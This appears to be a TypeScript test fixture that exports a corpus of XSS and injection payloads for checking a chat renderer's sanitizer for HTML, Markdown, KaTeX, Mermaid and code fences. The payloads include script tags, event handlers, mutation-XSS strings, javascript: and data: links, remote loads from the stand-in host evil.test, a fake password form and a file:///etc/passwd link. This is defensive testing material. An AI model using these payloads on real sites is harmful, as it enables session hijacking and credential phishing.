/** Messages that try to run a script, to ask a foreign host, or to pose as the page. Each calls `pwned` if it succeeds. */

const call = 'window.pwned=1';
const host = 'https://evil.test';
const encoded = Buffer.from(`<script>${call}</script>`).toString('base64');
const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"><script>${call}</script></svg>`).toString(
	'base64'
);

const scripts = [
	`<script>${call}</script>`,
	`<script src="${host}/x.js"></script>`,
	`<SCRIPT>${call}</SCRIPT >`,
	`<scr<script>ipt>${call}</scr</script>ipt>`,
	`<script\n>${call}</script\n>`,
	`<script/x>${call}</script>`,
	`<<script>${call}//<</script>`,
	`<script type="module">import("${host}/x.js")</script>`,
	`<script>${call}`,
	`text <script>${call}</script> text`,
	`> <script>${call}</script>`,
	`- <script>${call}</script>`,
	`| a |\n|---|\n| <script>${call}</script> |`,
	`<!--<script>${call}</script>-->`,
	`<![CDATA[<script>${call}</script>]]>`,
	`<?xml version="1.0"?><script>${call}</script>`,
	`<noscript><p title="</noscript><script>${call}</script>"></noscript>`,
	`<style><script>${call}</script></style>`,
	`<title><script>${call}</script></title>`,
	`<textarea><script>${call}</script></textarea>`,
	`<xmp><script>${call}</script></xmp>`,
	`<plaintext><script>${call}</script>`,
	`<template><script>${call}</script></template>`,
	`<iframe srcdoc="<script>parent.${call}</script>"></iframe>`
];

const events = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onbegin', 'ontoggle', 'onanimationstart'];
const handlers = [
	...events.map((event) => `<img src=x ${event}="${call}">`),
	...events.map((event) => `<svg ${event}="${call}"><rect width="9" height="9"/></svg>`),
	`<img src=x onerror=${call}>`,
	`<img src="x" OnErRoR="${call}">`,
	`<img src=x onerror\n=\n"${call}">`,
	`<img/src=x/onerror=${call}>`,
	`<img """><img src=x onerror="${call}">">`,
	`<img src="x\` \`" onerror="${call}">`,
	`<details open ontoggle="${call}"><summary>x</summary></details>`,
	`<video src=x onerror="${call}"></video>`,
	`<audio src=x onerror="${call}"></audio>`,
	`<video><source onerror="${call}"></video>`,
	`<input autofocus onfocus="${call}">`,
	`<textarea autofocus onfocus="${call}"></textarea>`,
	`<select autofocus onfocus="${call}"></select>`,
	`<body onload="${call}">`,
	`<marquee onstart="${call}">x</marquee>`,
	`<div contenteditable autofocus onfocus="${call}">x</div>`,
	`<p tabindex=0 autofocus onfocus="${call}">x</p>`,
	`<object data=x onerror="${call}"></object>`,
	`<link rel=stylesheet href=x onerror="${call}">`,
	`<style onload="${call}"></style>`,
	`<x-card onclick="${call}" style="position:fixed;inset:0">x</x-card>`,
	`<button popovertarget=p>x</button><div popover id=p onbeforetoggle="${call}">x</div>`
];

const vectors = [
	`<svg><script>${call}</script></svg>`,
	`<svg><script href="data:,${call}"/></svg>`,
	`<svg><animate onbegin="${call}" attributeName=x dur=1s></svg>`,
	`<svg><set onbegin="${call}" attributeName=x to=1></svg>`,
	`<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
	`<svg><a><animate attributeName=href values="javascript:${call}"/><text y=20>x</text></a></svg>`,
	`<svg><use href="data:image/svg+xml;base64,${svg}#x"/></svg>`,
	`<svg><image href="${host}/x.png"/></svg>`,
	`<svg><foreignObject><iframe src="javascript:${call}"></iframe></foreignObject></svg>`,
	`<svg><style>@import "${host}/x.css";</style></svg>`,
	`<svg><filter id=f><feImage href="${host}/x.png"/></filter></svg>`,
	`<embed src="data:image/svg+xml;base64,${svg}">`,
	`<object data="data:image/svg+xml;base64,${svg}"></object>`,
	`![x](data:image/svg+xml;base64,${svg})`,
	`<img src="data:image/svg+xml;base64,${svg}">`
];

const mutations = [
	'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=PWN&gt;">',
	'<math><mi><mglyph><style><img src=x onerror="PWN"></style></mglyph></mi></math>',
	'<math><annotation-xml encoding="text/html"><style><img src=x onerror="PWN"></style></annotation-xml></math>',
	'<svg></p><style><a id="</style><img src=1 onerror=PWN>">',
	'<svg><p><style><!--</style><img src=x onerror="PWN">--></p></svg>',
	'<form><math><mtext></form><form><mglyph><style></math><img src onerror=PWN>',
	'<table><td><svg><desc><table></table></desc><style><img src=x onerror="PWN"></style></svg></td></table>',
	'<noscript><style></noscript><img src=x onerror=PWN>',
	'<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=PWN>">',
	'<option><style></option></select><img src=x onerror=PWN></style>',
	'<a href="x" title="</a><img src=x onerror=PWN>">x</a>',
	'<p id="x"><svg><title><a id="</title><img src=x onerror=PWN>"></a></title></svg></p>',
	'<div><math><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=PWN src=1>"></textarea></mtext></svg></mglyph></math></div>',
	'<listing>&lt;img src=x onerror=PWN&gt;</listing>',
	'<xmp><p title="</xmp><img src=x onerror=PWN>"></xmp>',
	'<img src=`x` onerror=PWN>',
	'<a href=`javascript:PWN`>x</a>',
	'<form id=x><input name=attributes><input name=nodeName></form>',
	'<form><input name=parentNode><img src=x onerror=PWN></form>'
].map((text) => text.replaceAll('PWN', call));

const schemes = [
	`javascript:${call}`,
	`JaVaScRiPt:${call}`,
	`java\tscript:${call}`,
	`&#106;avascript:${call}`,
	`&#x6A&#x61;vascript:${call}`,
	`\u0001javascript:${call}`,
	` javascript:${call}`,
	`javascript&colon;${call}`,
	`vbscript:${call}`,
	`data:text/html;base64,${encoded}`,
	`data:text/html,<script>${call}</script>`,
	`blob:${host}/1`,
	`file:///etc/passwd`,
	`//evil.test/x`
];
const links = [
	...schemes.map((scheme) => `[x](<${scheme}>)`),
	...schemes.map((scheme) => `<a href="${scheme}">x</a>`),
	`[x]: javascript:${call}\n\n[x]`,
	`<javascript:${call}>`,
	`[x](javascript:${call} "title")`,
	`[![x](x)](javascript:${call})`,
	`<area href="javascript:${call}">`,
	`<form action="javascript:${call}"><button>x</button></form>`,
	`<button formaction="javascript:${call}">x</button>`,
	`<iframe src="javascript:parent.${call}"></iframe>`,
	`<base href="${host}/"><a href="x">x</a>`,
	`<a href="${host}" ping="${host}/ping" target=_self>x</a>`
];

const foreign = [
	`![x](${host}/x.png)`,
	`![x](//evil.test/x.png)`,
	`![x](http://evil.test/x.png "t")`,
	`<img src="${host}/x.png">`,
	`<img srcset="${host}/x.png 1x">`,
	`<img src="/api/v1/files/../../../evil">`,
	`<picture><source srcset="${host}/x.png"><img src="${host}/y.png"></picture>`,
	`<video src="${host}/x.mp4" autoplay poster="${host}/x.png"></video>`,
	`<audio src="${host}/x.mp3" autoplay></audio>`,
	`<iframe src="${host}"></iframe>`,
	`<embed src="${host}/x.swf">`,
	`<object data="${host}/x"></object>`,
	`<link rel="stylesheet" href="${host}/x.css">`,
	`<link rel="prefetch" href="${host}/x">`,
	`<meta http-equiv="refresh" content="0;url=${host}">`,
	`<style>@import "${host}/x.css"; body{background:url(${host}/x.png)}</style>`,
	`<p style="background:url(${host}/x.png)">x</p>`,
	`<table background="${host}/x.png"><tr><td background="${host}/y.png">x</td></tr></table>`,
	`<input type="image" src="${host}/x.png">`,
	`<body background="${host}/x.png">`,
	`<div style="position:fixed;inset:0;background:white">Session over, sign in again</div>`,
	`<form action="${host}"><input name=password type=password><button>Sign in</button></form>`,
	`<div class="dialog dialog-scrim">over everything</div>`
];

const formulas = [
	`$\\href{javascript:${call}}{x}$`,
	`$\\url{javascript:${call}}$`,
	`$\\includegraphics{${host}/x.png}$`,
	`$\\htmlClass{dialog}{x}$`,
	`$\\htmlId{main}{x}$`,
	`$\\htmlStyle{position:fixed;inset:0}{x}$`,
	`$\\htmlData{x=1}{x}$`,
	`$\\text{<img src=x onerror=${call}>}$`,
	`$$\n\\text{</annotation><script>${call}</script>}\n$$`,
	`$\\color{red;background:url(${host}/x.png)}{x}$`,
	`$\\textcolor{url(${host})}{x}$`,
	`$\\rule{99999999em}{99999999em}$`,
	`$\\def\\a{\\a\\a}\\a$`,
	`$\\def\\a#1{\\b#1\\b#1}\\def\\b#1{\\a#1\\a#1}\\a x$`,
	`$\\unicode{<script>${call}</script>}$`,
	`<code class="math-inline">\\href{javascript:${call}}{x}</code>`,
	`<span class="math katex" data-style="position:fixed;inset:0">x</span>`
];

const diagram = (text: string) => '```mermaid\n' + text + '\n```';
const diagrams = [
	diagram(`graph LR\n  A["<img src=x onerror=${call}>"] --> B`),
	diagram(`graph LR\n  A["<script>parent.${call}</script>"]`),
	diagram(`graph LR\n  A --> B\n  click A "javascript:parent.${call}"`),
	diagram(`graph LR\n  A --> B\n  click A call alert(1)`),
	diagram(`graph LR\n  A --> B\n  click A href "${host}" _top`),
	diagram(`%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph LR\n  A["<iframe src=${host}></iframe>"]`),
	diagram(`%%{init: {"themeCSS": "@import url(${host}/x.css); * { background: url(${host}/x.png) }"}}%%\ngraph LR\n  A`),
	diagram(`graph LR\n  A@{ img: "${host}/x.png", label: "x" }`),
	diagram(`sequenceDiagram\n  A->>B: <img src=x onerror=${call}>`),
	diagram(`classDiagram\n  class A~<script>${call}</script>~`),
	diagram('this is no diagram'),
	diagram(`graph LR\n  A["${'x'.repeat(60_000)}"]`)
];

const codes = [
	'```html\n<script>' + call + '</script>\n```',
	'```"><script>' + call + '</script>\nx\n```',
	'```js onclick=' + call + '\nx\n```',
	'`<img src=x onerror=' + call + '>`',
	'    <script>' + call + '</script>',
	'~~~html\n<img src=x onerror=' + call + '>\n~~~',
	'```\n</code></pre><script>' + call + '</script>\n```',
	'```constructor\nx\n```',
	'```__proto__\nx\n```'
];

export const corpus = [
	...scripts,
	...handlers,
	...vectors,
	...mutations,
	...links,
	...foreign,
	...formulas,
	...codes,
	...diagrams
];
